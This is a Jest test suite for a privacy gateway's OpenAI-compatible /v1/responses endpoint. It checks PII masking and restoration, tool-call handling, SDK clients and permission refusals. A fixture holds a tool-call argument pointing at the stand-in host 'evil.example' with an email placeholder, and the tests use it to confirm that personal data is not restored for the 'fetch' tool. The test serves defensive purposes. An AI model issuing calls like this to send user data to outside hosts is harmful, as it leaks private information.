import { createOpenAI } from "@ai-sdk/openai";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { checked } from "@veil/contracts/parsing";
import { SdkResponse } from "@veil/contracts/public/sdk/responses";
import { describeWithServer } from "@veil/testing";
import { generateText, stepCountIs, tool } from "ai";
import OpenAI from "openai";
import { zodTextFormat } from "openai/helpers/zod";
import request from "supertest";
import { z } from "zod";
import { codeOf } from "../support/native-client.ts";
import {
  callResponses,
  RESPONSES_HEADERS,
  RESPONSES_PATH,
  RESPONSES_SETTINGS,
  RESPONSES_TOOLS,
  responsesKey,
  resultOf,
} from "../support/responses.ts";
import { LETTER, sentJob } from "../support/sdk-client.ts";
import { startSdkServer } from "../support/sdk-server.ts";

let server: Awaited<ReturnType<typeof startSdkServer>>;
let key: string;
beforeAll(async () => {
  server = await startSdkServer({ ...RESPONSES_SETTINGS, PER_MINUTE_LIMIT_ENTERPRISE: "100000" });
  key = await responsesKey(server.gateway);
});
beforeEach(() => {
  server.gateway.worker.answerWith(undefined);
  server.gateway.worker.direct.length = 0;
});
afterAll(() => server.close());

const ask = (more: object = {}) => callResponses(server.gateway, more, { key });
const parse = checked(SdkResponse);
const JSON_ARGUMENTS = '{"to":["[EMAIL_1]"],"url":"//evil.example/[EMAIL_1]"}';
const RESTORED = '{"to":["ann@post.example"],"url":"//evil.example/[EMAIL_1]"}';

describeWithServer("postgres", "POST /v1/responses", () => {
  describe("The answer", () => {
    // @spec DEC-17
    test("an answer has the fields of the format, with compliance metadata", async () => {
      const answer = await ask({ metadata: { ticket: "T-1" }, temperature: 0.5 });
      expect(answer.status).toBe(200);
      expect(parse(answer.body)).toEqual({
        ...{ id: expect.stringMatching(/^resp_[0-9a-f]+$/), object: "response" },
        ...{ created_at: expect.any(Number), status: "completed", model: "m" },
        ...{ error: null, incomplete_details: null, instructions: null },
        output: [
          {
            ...{ id: expect.stringMatching(/^msg_/), type: "message", role: "assistant" },
            status: "completed",
            content: [{ type: "output_text", text: LETTER, annotations: [], logprobs: [] }],
          },
        ],
        usage: {
          ...{ input_tokens: 1, output_tokens: 1, total_tokens: 2 },
          input_tokens_details: { cached_tokens: 0 },
          output_tokens_details: { reasoning_tokens: 0 },
        },
        ...{ tools: [], tool_choice: "auto", parallel_tool_calls: true },
        ...{ temperature: 0.5, top_p: null, text: { format: { type: "text" } } },
        metadata: {
          ticket: "T-1",
          svc_compliance: expect.objectContaining({
            ...{ request_id: answer.headers["x-request-id"], redaction_count: 2, relinked: true },
          }),
        },
      });
    });

    test("an answer without re-link has placeholders", async () => {
      const headers = { ...RESPONSES_HEADERS, "X-Veil-Relink": "false" };
      const { body } = await callResponses(server.gateway, {}, { key, headers });
      expect(body.output[0].content[0].text).toBe("[PERSON_1] writes from [EMAIL_1]");
    });

    test("calls become items, with values restored in the arguments of the named tools alone", async () => {
      server.gateway.worker.answerWith(() =>
        resultOf([
          { type: "text", text: "I write to [PERSON_1]" },
          { type: "tool_use", name: "send_mail", arguments: JSON_ARGUMENTS },
          { type: "tool_use", name: "fetch", arguments: JSON_ARGUMENTS },
        ]),
      );
      const { body } = await ask({ tools: RESPONSES_TOOLS, tool_choice: "required" });
      const { output, tools, tool_choice } = parse(body);
      const call = { type: "function_call", status: "completed" };
      expect(output).toMatchObject([
        { type: "message", content: [{ text: "I write to Ann Weber" }] },
        { ...call, name: "send_mail", arguments: RESTORED },
        { ...call, name: "fetch", arguments: JSON_ARGUMENTS },
      ]);
      const ids = output.flatMap((item) => ("call_id" in item ? [item.id, item.call_id] : []));
      expect(ids.map((id) => id.split("_")[0])).toEqual(["fc", "call", "fc", "call"]);
      expect(new Set(ids).size).toBe(4);
      expect([tools[1], tool_choice]).toEqual([
        { type: "function", name: "fetch", parameters: null, strict: null },
        "required",
      ]);
    });

    test.each([
      ["send_mail", "Write to ann@post.example"],
      ["fetch", "Write to [EMAIL_1]"],
    ])("a call of the custom tool %s has the input %s", async (name, input) => {
      const json = JSON.stringify({ input: "Write to [EMAIL_1]" });
      server.gateway.worker.answerWith(() =>
        resultOf([{ type: "tool_use", name, arguments: json }]),
      );
      const tool = { type: "custom", name, format: { type: "text" } };
      const { output, tools } = parse((await ask({ tools: [tool] })).body);
      expect(output).toEqual([
        {
          ...{ id: expect.stringMatching(/^ctc_/), type: "custom_tool_call", status: "completed" },
          ...{ call_id: expect.stringMatching(/^call_/), name, input },
        },
      ]);
      expect(tools).toEqual([tool]);
    });

    test("a call of a tool in a group has the names of both, and the group is repeated", async () => {
      server.gateway.worker.answerWith(() =>
        resultOf([{ type: "tool_use", name: "mail__send_mail", arguments: JSON_ARGUMENTS }]),
      );
      const group = { type: "namespace", name: "mail", tools: RESPONSES_TOOLS.slice(0, 1) };
      const { output, tools } = parse((await ask({ tools: [group] })).body);
      // The policy names the tool send_mail, not the tool send_mail of the group mail.
      expect(output).toMatchObject([
        ...[{ type: "function_call", name: "send_mail", namespace: "mail" }],
      ]);
      expect(output).toMatchObject([{ arguments: JSON_ARGUMENTS }]);
      expect(tools).toEqual([group]);
    });

    test.each([
      ["length", "max_output_tokens"],
      ["max_tokens", "max_output_tokens"],
      ["content_filter", "content_filter"],
    ])("an answer that stops because of %s is incomplete", async (stop, reason) => {
      server.gateway.worker.answerWith(() => resultOf([{ type: "text", text: "Half" }], stop));
      const { status, incomplete_details, output } = parse((await ask()).body);
      expect([status, incomplete_details]).toEqual(["incomplete", { reason }]);
      expect(output).toMatchObject([{ status: "incomplete" }]);
    });

    test("cached tokens and tokens of thoughts are counted", async () => {
      const usage_details = {
        prompt_tokens_details: { cached_tokens: 7 },
        completion_tokens_details: { reasoning_tokens: 3 },
      };
      server.gateway.worker.answerWith(() => ({ ...resultOf([]), usage_details }));
      const { usage, output } = parse((await ask()).body);
      expect(usage).toMatchObject({
        input_tokens_details: { cached_tokens: 7 },
        output_tokens_details: { reasoning_tokens: 3 },
      });
      expect(output).toEqual([]);
    });
  });

  describe("SDKs", () => {
    const client = () =>
      new OpenAI({
        ...{ apiKey: key, baseURL: `${server.url}/v1`, defaultHeaders: RESPONSES_HEADERS },
      });
    const model = () =>
      createOpenAI({ apiKey: key, baseURL: `${server.url}/v1`, headers: RESPONSES_HEADERS })("m");

    test("openai's responses.create returns the text", async () => {
      const answer = await client().responses.create({ model: "m", input: LETTER });
      expect(answer.output_text).toBe(LETTER);
    });

    test("openai's responses.parse returns the restored object", async () => {
      const text = '{"name":"[PERSON_1]","mail":"[EMAIL_1]"}';
      server.gateway.worker.answerWith(() => resultOf([{ type: "text", text }]));
      const Person = z.object({ name: z.string(), mail: z.string() });
      const answer = await client().responses.parse({
        ...{ model: "m", input: LETTER, text: { format: zodTextFormat(Person, "person") } },
      });
      expect(answer.output_parsed).toEqual({ name: "Ann Weber", mail: "ann@post.example" });
      expect(sentJob(server.gateway).options.output_schema).toMatchObject({
        ...{ name: "person", strict: true, schema: expect.stringContaining('"mail"') },
      });
    });

    test("the AI SDK's default model returns the text", async () => {
      const { text } = await generateText({
        ...{ model: model(), prompt: LETTER, system: "Be brief.", maxRetries: 0 },
      });
      expect(text).toBe(LETTER);
    });

    test("the AI SDK runs a tool with restored arguments, and sends the result back masked", async () => {
      server.gateway.worker.answerWith(() =>
        server.gateway.worker.direct.length > 1
          ? resultOf([{ type: "text", text: "Sent to [EMAIL_1]" }])
          : resultOf([{ type: "tool_use", name: "send_mail", arguments: '{"to":"[EMAIL_1]"}' }]),
      );
      const sent: string[] = [];
      const send_mail = tool({
        inputSchema: z.object({ to: z.string() }),
        execute({ to }) {
          sent.push(to);
          return `Delivered to ${to}`;
        },
      });
      const { text } = await generateText({
        ...{ model: model(), prompt: LETTER, maxRetries: 0, tools: { send_mail } },
        providerOptions: { openai: { store: false } },
        stopWhen: stepCountIs(2),
      });
      expect([sent, text]).toEqual([["ann@post.example"], "Sent to ann@post.example"]);
      const [, second] = server.gateway.worker.direct;
      expect(JSON.stringify(second)).toContain("Delivered to [EMAIL_1]");
      expect(JSON.stringify(second)).not.toContain("ann@post.example");
    });
  });

  describe("Without permission", () => {
    test.each([
      ["the deployment", { RESPONSES_ENABLED: "false" }, { extensions: ["responses"] }],
      ["the key's policy", { RESPONSES_ENABLED: "true" }, { extensions: ["chat_streaming"] }],
    ] as const)(
      "the endpoint does not exist when %s does not allow it, and the hint names both",
      async (_what, settings, policy) => {
        const other = await startSdkServer(settings);
        try {
          const as = await responsesKey(other.gateway, policy as never);
          const answer = await callResponses(other.gateway, {}, { key: as });
          expect(codeOf(answer)).toEqual([404, "not_found"]);
          expect(answer.body.message).toBe("This path does not exist");
          expect(answer.body.hint).toMatch(
            /\/v1\/chat\/completions.*RESPONSES_ENABLED.*extension responses/,
          );
          expect(other.gateway.worker.direct).toEqual([]);
        } finally {
          await other.close();
        }
      },
    );

    test("the endpoint does not read the body of a key without the extension", async () => {
      const as = await responsesKey(server.gateway, {});
      const sent = request(server.gateway.app).post(RESPONSES_PATH).set("x-api-key", as);
      expect(codeOf(await sent.send("{"))).toEqual([404, "not_found"]);
    });

    test("tools are refused for a key whose policy does not allow them", async () => {
      const as = await responsesKey(server.gateway, { extensions: ["responses"] });
      for (const more of [
        { tools: RESPONSES_TOOLS },
        { input: [{ type: "function_call", call_id: "x", name: "fetch", arguments: "{}" }] },
        { input: [{ type: "function_call_output", call_id: "x", output: "ok" }] },
        { tools: [{ type: "custom", name: "fetch" }] },
        { input: [{ type: "custom_tool_call", call_id: "x", name: "fetch", input: "a" }] },
        { input: [{ type: "custom_tool_call_output", call_id: "x", output: "ok" }] },
      ]) {
        const answer = await callResponses(server.gateway, more, { key: as });
        expect(codeOf(answer)).toEqual([400, "tools_not_supported"]);
        expect(answer.body.hint).toContain("TOOLS_ENABLED");
      }
      expect(server.gateway.worker.direct).toEqual([]);
    });
  });
});
